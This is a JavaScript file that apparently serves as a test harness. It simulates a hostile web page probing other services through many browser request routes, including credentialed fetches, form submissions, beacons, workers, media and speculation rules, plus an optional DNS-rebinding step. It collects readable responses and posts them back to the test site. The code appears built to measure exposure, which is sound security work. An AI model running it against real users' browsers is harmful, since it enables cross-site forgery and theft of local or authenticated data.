// What a hostile page tries. The site puts CONFIG in front: {site, kind, rebind, attempts}.
//
// An attempt has `id`, `how` (one of the functions below), `url`, `method`, and for some `type`, `body`, `mode`. The
// result has `outcome` (what the page notices) and `text` (what it can read of the response).
"use strict";

const AT_ONCE = 40;
const ATTEMPT_MS = 2500;
const SHORT_MS = 250; // for attempts whose end a page cannot notice
const pause = (ms) => new Promise((done) => setTimeout(done, ms));

function bodyOf(attempt) {
  if (attempt.method === "GET" || attempt.method === "HEAD") return undefined;
  if (attempt.type === "multipart") {
    const form = new FormData();
    form.append("payload", attempt.body);
    return form;
  }
  if (attempt.type === "form") return new URLSearchParams({ payload: attempt.body });
  return new Blob([attempt.body], { type: attempt.type ?? "" });
}

async function textOf(response) {
  if (!response.body) return "";
  const first = await response.body.getReader().read();
  return first.value ? new TextDecoder().decode(first.value).slice(0, 2000) : "";
}

async function fetched(attempt, signal) {
  const response = await fetch(attempt.url, {
    method: attempt.method,
    mode: attempt.mode,
    body: bodyOf(attempt),
    keepalive: attempt.keepalive ?? false,
    referrerPolicy: attempt.referrerPolicy ?? "",
    credentials: "include",
    cache: "no-store",
    signal,
  });
  return { outcome: `${response.type} ${response.status}`, text: await textOf(response) };
}

// Add an element, wait for one of its events, and remove it.
function added(name, properties, parent = document.body) {
  return new Promise((done) => {
    const element = document.createElement(name);
    const end = (outcome) => {
      if (name === "iframe") element.src = "about:blank";
      if (name === "audio" || name === "video") element.removeAttribute("src");
      element.remove();
      done({ outcome });
    };
    element.addEventListener("load", () => end("loaded"));
    element.addEventListener("loadedmetadata", () => end("loaded"));
    element.addEventListener("error", () => end("error"));
    for (const [key, value] of Object.entries(properties)) element.setAttribute(key, value);
    parent.append(element);
    setTimeout(() => end("no event"), ATTEMPT_MS);
  });
}

// Wait until a frame has loaded `count` pages, and a moment for what the last one does; at most `most` milliseconds.
function loads(frame, count, most = ATTEMPT_MS) {
  let left = count;
  const loaded = new Promise((done) => frame.addEventListener("load", () => (left -= 1) || done()));
  return Promise.race([pause(most), loaded.then(() => pause(50))]);
}

let frames = 0;

// Submit a form into a frame of the page, or into a new window.
async function submitted(attempt, { action = attempt.url, target } = {}) {
  const form = document.createElement("form");
  const name = target ?? `frame${(frames += 1)}`;
  let frame;
  if (!target) {
    frame = document.createElement("iframe");
    frame.name = name;
    document.body.append(frame);
  }
  Object.assign(form, { action, method: attempt.method, enctype: attempt.type ?? "", target: name });
  if (attempt.method === "GET") {
    for (const [key, value] of new URL(action).searchParams) form.append(field(key, value));
  } else {
    form.append(field(attempt.body, ""));
  }
  document.body.append(form);
  form.submit();
  await (frame ? loads(frame, 1) : pause(ATTEMPT_MS));
  form.remove();
  frame?.remove();
  return { outcome: "submitted" };
}

function field(name, value) {
  return Object.assign(document.createElement("input"), { type: "hidden", name, value });
}

const at = (path, attempt) => `${CONFIG.site}${path}to=${encodeURIComponent(attempt.url)}`;

const HOW = {
  fetch: fetched,
  redirect: (attempt, signal) => fetched({ ...attempt, url: at("/redirect?code=307&", attempt) }, signal),
  worker: async (attempt) => {
    const script = `fetch(${JSON.stringify(attempt.url)}, {method: "${attempt.method}", mode: "no-cors", body:
      ${attempt.method === "GET" ? "undefined" : JSON.stringify(attempt.body)}}).then((r) => postMessage(r.type + " " +
      r.status), (e) => postMessage("error"))`;
    const worker = new Worker(URL.createObjectURL(new Blob([script], { type: "text/javascript" })));
    const outcome = await new Promise((done, failed) => {
      worker.onmessage = (event) => done(event.data);
      worker.onerror = failed;
      setTimeout(() => done("no event"), ATTEMPT_MS);
    });
    worker.terminate();
    return { outcome };
  },
  xhr: (attempt) =>
    new Promise((done) => {
      const request = new XMLHttpRequest();
      request.open(attempt.method, attempt.url);
      if (attempt.type) request.setRequestHeader("Content-Type", attempt.type);
      request.timeout = ATTEMPT_MS;
      request.onloadend = () => done({ outcome: `xhr ${request.status}`, text: request.responseText.slice(0, 2000) });
      request.send(attempt.method === "GET" ? null : attempt.body);
    }),
  beacon: async (attempt) => ({ outcome: `queued ${navigator.sendBeacon(attempt.url, bodyOf(attempt))}` }),
  form: submitted,
  "form redirect": (attempt) => submitted(attempt, { action: at("/redirect?code=307&", attempt) }),
  "form window": async (attempt) => {
    const name = `window${(frames += 1)}`;
    const opened = window.open("about:blank", name);
    const result = await submitted(attempt, { target: name });
    opened?.close();
    return result;
  },
  window: async (attempt) => {
    const opened = window.open(attempt.url);
    await pause(ATTEMPT_MS);
    let text = "";
    try {
      text = opened.document.body.innerText;
    } catch {
      // another origin: not readable
    }
    opened?.close();
    return { outcome: opened ? "opened" : "not opened", text };
  },
  ping: async (attempt) => {
    const link = Object.assign(document.createElement("a"), { href: "javascript:void 0", ping: attempt.url });
    document.body.append(link);
    link.click();
    await pause(SHORT_MS);
    link.remove();
    return { outcome: "clicked" };
  },
  img: (attempt) => added("img", { src: attempt.url }),
  script: (attempt) => added("script", { src: attempt.url }),
  module: (attempt) => import(attempt.url).then(() => ({ outcome: "loaded" })),
  stylesheet: (attempt) => added("link", { rel: "stylesheet", href: attempt.url }, document.head ?? document.body),
  prefetch: (attempt) => added("link", { rel: "prefetch", href: attempt.url }),
  preload: (attempt) => added("link", { rel: "preload", as: "fetch", href: attempt.url }),
  modulepreload: (attempt) => added("link", { rel: "modulepreload", href: attempt.url }),
  icon: (attempt) => added("input", { type: "image", src: attempt.url }),
  audio: (attempt) => added("audio", { src: attempt.url, preload: "auto" }),
  video: (attempt) => added("video", { src: attempt.url, preload: "auto" }),
  track: (attempt) => {
    const video = document.createElement("video");
    document.body.append(video);
    return added("track", { src: attempt.url, default: "", kind: "subtitles" }, video).finally(() => video.remove());
  },
  object: (attempt) => added("object", { data: attempt.url }),
  embed: (attempt) => added("embed", { src: attempt.url }),
  iframe: (attempt) => added("iframe", { src: attempt.url, style: "opacity:.01;position:absolute;z-index:9" }),
  refresh: async (attempt) => {
    const frame = Object.assign(document.createElement("iframe"), { src: at("/refresh?", attempt) });
    document.body.append(frame);
    await loads(frame, 2, 2 * ATTEMPT_MS - SHORT_MS);
    frame.remove();
    return { outcome: "led there" };
  },
  csp: async (attempt) => {
    const frame = Object.assign(document.createElement("iframe"), { src: at("/csp?", attempt) });
    document.body.append(frame);
    await pause(ATTEMPT_MS);
    frame.remove();
    return { outcome: "violated" };
  },
  css: async (attempt) => {
    const div = document.createElement("div");
    div.style.background = `url("${attempt.url}")`;
    div.textContent = ".";
    document.body.append(div);
    await pause(ATTEMPT_MS);
    div.remove();
    return { outcome: "styled" };
  },
  speculation: async (attempt) => {
    const rules = document.createElement("script");
    rules.type = "speculationrules";
    const list = [{ urls: [attempt.url], eagerness: "immediate" }];
    rules.textContent = JSON.stringify({ prefetch: list, prerender: list });
    document.body.append(rules);
    await pause(ATTEMPT_MS);
    rules.remove();
    return { outcome: "speculated" };
  },
  eventsource: (attempt) =>
    new Promise((done) => {
      const source = new EventSource(attempt.url, { withCredentials: true });
      const end = (outcome, text) => (source.close(), done({ outcome, text }));
      source.onopen = () => end("loaded");
      source.onmessage = (event) => end("loaded", event.data);
      source.onerror = () => end("error");
      setTimeout(() => end("no event"), ATTEMPT_MS);
    }),
  websocket: (attempt) =>
    new Promise((done) => {
      const socket = new WebSocket(attempt.url.replace(/^http/, "ws"));
      const end = (outcome) => (socket.close(), done({ outcome }));
      socket.onopen = () => end("loaded");
      socket.onerror = () => end("error");
      setTimeout(() => end("no event"), ATTEMPT_MS);
    }),
};

// A page of a rebound name has the origin of the service: only a broken connection fails there, so try again.
async function tried(attempt) {
  let result;
  for (let left = CONFIG.rebind ? 3 : 1; left; left -= 1) {
    result = await triedOnce(attempt);
    if (result.outcome !== "error: Failed to fetch") break;
    await pause(SHORT_MS);
  }
  return result;
}

async function triedOnce(attempt) {
  const stop = new AbortController();
  const timer = setTimeout(() => stop.abort(), ATTEMPT_MS);
  let result;
  try {
    const late = pause(2 * ATTEMPT_MS).then(() => ({ outcome: "no end" }));
    result = await Promise.race([HOW[attempt.how](attempt, stop.signal), late]);
  } catch (error) {
    result = { outcome: `error: ${error?.message ?? error}` };
  }
  clearTimeout(timer);
  return { id: attempt.id, outcome: result.outcome, text: result.text ?? "" };
}

async function run() {
  if (CONFIG.rebind) {
    await fetch(`${CONFIG.site}/rebind?name=${CONFIG.rebind}`, { mode: "no-cors" });
    await pause(100);
  }
  const left = [...CONFIG.attempts];
  const results = [];
  const workers = Array.from({ length: AT_ONCE }, async () => {
    while (left.length) results.push(await tried(left.shift()));
  });
  await Promise.all(workers);
  await pause(SHORT_MS); // for beacons and reports
  await fetch(`${CONFIG.site}/result?kind=${encodeURIComponent(CONFIG.kind)}`, {
    method: "POST",
    mode: "no-cors",
    body: JSON.stringify(results),
  });
}

run();
